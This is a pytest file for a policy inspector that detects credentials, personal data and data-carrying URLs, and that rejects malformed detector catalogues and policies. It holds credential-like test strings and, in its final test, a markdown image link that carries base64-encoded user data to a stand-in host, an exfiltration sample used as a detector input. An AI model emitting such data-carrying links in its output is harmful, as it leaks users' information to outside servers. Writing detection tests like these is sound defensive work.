"""Every detector finds its examples and not its counter-examples; the files fail closed."""

from __future__ import annotations

import json

import pytest
from tests.inspection.reference import CANARY, CATALOGUES, DETECTORS, POLICY

from wardstead.inspection.inspector import PolicyInspector
from wardstead.inspection.patterns.catalogue import Detector, canary, catalogue_schema, digest, load_catalogues, trusting
from wardstead.inspection.patterns.folding import View
from wardstead.inspection.patterns.matching import Matcher
from wardstead.inspection.policy_file import policy_schema
from wardstead.inspection.policy_loading import load_policy
from wardstead.inspection.ports import PROMPT
from wardstead.kernel.errors import ConfigurationError

CASES = [(one, text, True) for one in DETECTORS for text in one.examples]
CASES += [(one, text, False) for one in DETECTORS for text in one.counter_examples]
RULE = "{category: x, label: {level: internal}, prompt: allow, answer: allow}"


@pytest.fixture(scope="module")
def matchers() -> dict[str, Matcher]:
    return {one.id: Matcher([one], scan=False) for one in DETECTORS}


@pytest.mark.parametrize(("detector", "text", "expected"), CASES, ids=lambda value: getattr(value, "id", None))
def test_a_detector_finds_its_examples_alone(matchers: dict[str, Matcher], detector: Detector, text: str, expected: bool) -> None:
    data = View(text).data
    matcher = matchers[detector.id]
    found = matcher.matches(0, data, 0, len(data)).matches if 0 in matcher.candidates(data, 0, len(data)) else []
    assert bool(found) is expected


@pytest.mark.parametrize(
    ("before", "stands"),
    [
        ("ACME_KEY", True),
        ("acmeKey", True),
        ("myAcmeKey", True),
        ("my-acme-key", True),
        ("acme", True),
        ("acmes", False),
        ("pacme", False),
        ("PACMEKEY", False),
        ("acme2", False),
    ],
)
def test_a_context_word_stands_by_itself_or_as_a_part_of_a_name(before: str, stands: bool) -> None:
    more = ", context: [acme]"
    matcher = Matcher(load_catalogues({"file.yaml": one_detector("[0-9]{4}", more)}))
    text = f"{before} 1234".encode()
    assert bool(matcher.matches(0, text, 0, len(text)).matches) is stands


def test_lines_of_plain_code_and_prose_hold_no_credential() -> None:
    lines = [
        "commit 3f9a1c0b7de24518a6c2e0f9b81d77433f9a1c0b",
        "request_id=5fa2b0c1-93de-4c7b-8a16-2f0e7d9b4c38 status=200",
        "color: #dcdccc; background: url(data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ)",
        '"integrity": "sha512-9QdXXJmLcXJZ5cVnUs5vJZ8xkMIlq8Vu2GVcDw3kLqbnNHRmWnYUQ0OqRzVd0WMV2ZzqnNWTY3kEfnUi1CTQcw=="',
        "def token_count(self, token: str, max_tokens=4096) -> int:",
        "password = getpass.getpass('Password: ')",
        "The secret of a good password is its length.",
        "api_key = os.environ['OPENAI_API_KEY']",
        "for key, value in sorted(items.items()): print(key, value)",
    ]
    found = PolicyInspector(DETECTORS, POLICY).inspect("\n".join(lines * 20), PROMPT)
    assert [one for one in found.findings if "credentials" in str(one.label)] == []


@pytest.mark.parametrize(
    ("text", "types"),
    [
        ("aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", {"documented-example"}),
        ("password=AKIAIOSFODNN7EXAMPLE", {"documented-example"}),
        ("token=gho_16C7e42F292c6912E7710c838347Ae178B4a&scope=repo", {"documented-example"}),
        ("password=AKIAIOSFODNN7EXAMPLE-hT7kq92Lm", {"password", "documented-example"}),
        ("AKIA2OGYBAH6Q4PZVN5T", {"aws-access-key"}),
    ],
)
def test_a_key_that_a_manual_prints_is_no_credential_unless_there_is_more_of_it(text: str, types: set[str]) -> None:
    found = PolicyInspector(DETECTORS, POLICY).inspect(text, PROMPT)
    assert {one.type for one in found.findings} == types


@pytest.mark.parametrize("octets", [16, 20, 32, 64])
def test_no_part_of_a_digest_is_an_address_of_a_card(octets: int) -> None:
    digest = ":".join(f"{(37 * number + 11) % 256:02X}" for number in range(octets))
    found = PolicyInspector(DETECTORS, POLICY).inspect(f"fingerprint {digest}\nat 00:1B:44:11:3A:B7", PROMPT)
    assert [one.type for one in found.findings] == ["mac-address"]


def one_detector(pattern: str, more: str = "") -> str:
    entry = f"id: bad, type: bad, category: xx, source: xyz, pattern: '{pattern}', examples: [a]{more}"
    return f"version: 1\ndetectors:\n  - {{{entry}}}\n"


@pytest.mark.parametrize(
    ("pattern", "why"),
    [
        ("a+", "longer than"),
        ("(?:a{1,900}){1,9}", "longer than"),
        ("(?=a)b", "cannot have"),
        ("(?<!a)b", "cannot have"),
        ("^a", "cannot have"),
        (r"(a)\1", "cannot have"),
        ("é", "ASCII"),
        (r"a\xc3", "ASCII"),
        (r"[\x80-\x90]", "ASCII"),
        (r"a[\p{L}]", "class"),
        (r"(?i)a\p{L}", "class"),
        (r"(?i:a\p{L})", "case does not matter"),
        ("[^a]", "cannot have"),
        ("[^ab]", "cannot have"),
        ("a.", "cannot have"),
        (r"a\s", "cannot have"),
        (r"a\W", "cannot have"),
        ("(", "parse"),
        ("a{0,3}", "nothing"),
        ("(a)(b)", "at most one"),
        ("x(?:(a)|b)", "at most one"),
    ],
)
def test_a_pattern_that_cannot_stream_is_refused_by_name(pattern: str, why: str) -> None:
    with pytest.raises(ConfigurationError, match=why) as caught:
        load_catalogues({"file.yaml": one_detector(pattern)})
    assert caught.value.where == "file.yaml: bad"


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("Herr Müller kam", "Müller"),
        ("Herr Élan Żółty", "Élan Żółty"),
        ("Herr Ελένη", "Ελένη"),
        ("Herr Nguyễn,", "Nguyễn"),
        ("Herr Owens", "Owens"),
        ("Herr ß", ""),
    ],
)
def test_a_letter_beyond_ascii_is_found_whole(text: str, name: str) -> None:
    pattern = r"\bHerr (\p{Lu}\p{L}{1,20}(?: \p{Lu}\p{L}{1,20}){0,2})"
    matcher = Matcher(load_catalogues({"file.yaml": one_detector(pattern)}))
    data = text.encode()
    found = [data[one.start : one.end].decode() for one in matcher.matches(0, data, 0, len(data)).matches]
    assert found == ([name] if name else [])


@pytest.mark.parametrize(
    "text",
    [
        "version: 1\nsurprise: 2\ndetectors: []\n",
        "detectors: []\n",
        "- a\n",
        "a: [\n",
        one_detector("ab", ", surprise: 1"),
        one_detector("ab", ", validator: nobody"),
        one_detector("ab", ", overlong: ab"),
        one_detector("ab") + one_detector("cd").split("detectors:\n")[1],
    ],
)
def test_a_catalogue_that_does_not_fit_is_refused(text: str) -> None:
    with pytest.raises(ConfigurationError) as caught:
        load_catalogues({"file.yaml": text})
    assert caught.value.where.startswith("file.yaml")


@pytest.mark.parametrize(
    "text",
    [
        "version: 1\nsurprise: 2\nrules: []\n",
        "version: 1\nrules: [{category: x, label: {level: secret}, prompt: allow, answer: allow}]\n",
        "version: 1\nrules: [{category: x, label: {level: internal}, prompt: maybe, answer: allow}]\n",
        "version: 1\nrules: [{category: x, label: {level: internal}, prompt: allow}]\n",
        "version: 1\nrules: [{label: {level: internal}, prompt: allow, answer: allow}]\n",
        f"version: 1\nrules: [{RULE}, {RULE}]\n",
    ],
)
def test_a_policy_that_does_not_fit_is_refused(text: str) -> None:
    with pytest.raises(ConfigurationError) as caught:
        load_policy(text, "file.yaml")
    assert caught.value.where.startswith("file.yaml")


def test_a_detector_without_a_rule_is_refused() -> None:
    with pytest.raises(ConfigurationError, match="no rule covers"):
        PolicyInspector(DETECTORS, load_policy("version: 1\nrules: []\n", "file.yaml"))


def test_a_rule_that_names_no_finding_is_refused() -> None:
    with pytest.raises(ConfigurationError, match="no detector finds"):
        PolicyInspector(DETECTORS, load_policy(f"version: 1\nrules: [{RULE}]\n", "file.yaml"))


@pytest.mark.parametrize("text", ["short", "x" * 257, "canary-ünïcode", "canary\nline"])
def test_a_canary_must_be_long_enough_to_mean_something(text: str) -> None:
    with pytest.raises(ConfigurationError):
        canary(text)


def test_the_version_changes_with_what_is_found_and_tells_no_canary() -> None:
    versions = {
        PolicyInspector(DETECTORS, POLICY).version,
        PolicyInspector(DETECTORS[:-1], POLICY).version,
        PolicyInspector(DETECTORS, POLICY, (CANARY,)).version,
    }
    assert len(versions) == 3
    assert PolicyInspector(DETECTORS, POLICY, (CANARY,)).version == PolicyInspector(DETECTORS, POLICY, ("another-one",)).version


def test_the_schemas_beside_the_catalogues_are_those_of_the_code() -> None:
    assert json.loads((CATALOGUES / "detectors/detectors.schema.json").read_text()) == json.loads(json.dumps(catalogue_schema()))
    written = json.loads((CATALOGUES / "classification/classification.schema.json").read_text())
    assert written == json.loads(json.dumps(policy_schema()))


def test_an_address_on_a_trusted_host_carries_nothing_away() -> None:
    addresses = tuple(one for one in DETECTORS if one.type == "address-with-data")
    text = b"![x](https://img.ex.example/p?d=VGhlIHVzZXIncyBuYW1lIGlzIEFubg)"
    for hosts, found in ((), True), (("img.ex.example",), False), ((".ex.example",), False), (("ex.example",), True):
        chosen = trusting(addresses, frozenset(hosts))
        matcher = Matcher(chosen, scan=False)
        assert any(matcher.matches(number, text, 0, len(text)).matches for number in range(len(chosen))) is found
    assert digest(trusting(addresses, frozenset({"a.example"}))) != digest(addresses)
